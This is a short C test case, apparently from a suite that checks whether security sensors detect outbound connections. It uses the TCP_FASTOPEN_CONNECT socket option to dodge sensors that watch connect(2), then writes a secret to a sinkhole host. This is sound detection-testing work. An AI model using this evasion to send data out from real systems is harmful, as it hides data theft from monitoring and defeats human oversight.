// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: Connects by the socket option TCP_FASTOPEN_CONNECT: the first write makes the connection.
 * Known from: Linux 4.11's deferred connect, against sensors that take connect(2) for the time.
 * First: connect at entry and exit
 * Second: inet_sock_set_state; the sinkhole's record
 */
#include "trick.h"
#include <netinet/tcp.h>

int main(void)
{
	struct sockaddr_in to = sink(8080);
	int fd = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)))
		blocked();
	setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, &on, sizeof(on));
	if (connect(fd, (void *)&to, sizeof(to)))
		err(1, "connect");
	dprintf(fd, "%s", secret());
	finish(fd);
	performed();
}
